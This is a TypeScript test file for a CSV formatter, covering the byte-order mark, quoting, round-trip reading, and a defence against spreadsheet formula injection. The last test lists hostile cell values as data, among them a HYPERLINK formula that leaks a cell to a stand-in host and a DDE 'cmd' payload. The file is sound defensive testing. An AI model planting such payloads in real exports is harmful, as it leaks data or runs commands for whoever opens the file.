import { readCsv } from "@lianzheng/test-support";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { formatCsv, formatCsvField } from "./csv.js";
import type { Table } from "./tables.js";

const table = (rows: Table["rows"]): Table => ({
  name: "measures",
  columns: [
    { name: "id", type: "TEXT", primaryKey: true },
    { name: "text", type: "TEXT" },
    { name: "number", type: "REAL" },
  ],
  rows,
});

describe("formatCsv", () => {
  it("starts with a UTF-8 byte-order mark and ends every record with CRLF", () => {
    const csv = formatCsv(table([{ id: "a", text: "國家廉政", number: 1 }]));
    expect(csv).toBe("\uFEFFid,text,number\r\na,國家廉政,1\r\n");
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it("quotes fields with commas, quotes and line breaks, and leaves empty what is null", () => {
    expect(formatCsvField('說 "是", 或\n否')).toBe('"說 ""是"", 或\n否"');
    expect(formatCsvField(null)).toBe("");
    expect(formatCsvField(72.69)).toBe("72.69");
    expect(formatCsvField("")).toBe("");
  });

  it("reads back to the same fields whatever the text holds (a formula-like one behind a ')", () => {
    const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string(), fc.string({ unit: "grapheme" }))), (pairs) => {
        const rows = pairs.map(([id, text]) => ({ id, text, number: null }));
        const body = formatCsv(table(rows)).slice(1);
        expect(readCsv(body)).toEqual([
          ["id", "text", "number"],
          ...pairs.map(([id, text]) => [guarded(id), guarded(text), ""]),
        ]);
      }),
    );
  });

  it("keeps hostile cells from running as formulas in a spreadsheet (OWASP CSV injection)", () => {
    const hostile = [
      '=HYPERLINK("http://example.invalid/?leak="&A1,"點此")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
      "\t=1+1",
      "\r=1+1",
      "=1+1",
    ];
    const body = formatCsv(table(hostile.map((text, i) => ({ id: `r${i}`, text, number: -2 })))).slice(1);
    const [, ...rows] = readCsv(body);
    rows.forEach((row, i) => {
      expect(row[1]).toBe(`'${hostile[i]}`);
      expect(row[2]).toBe("-2"); // a number is data: written as it is
    });
    // Text that merely contains the characters later, and the Chinese full-width ＝, is left alone.
    expect(formatCsvField("A=B")).toBe("A=B");
    expect(formatCsvField("＝1")).toBe("＝1");
    expect(formatCsvField("(一) 推動")).toBe("(一) 推動");
  });
});
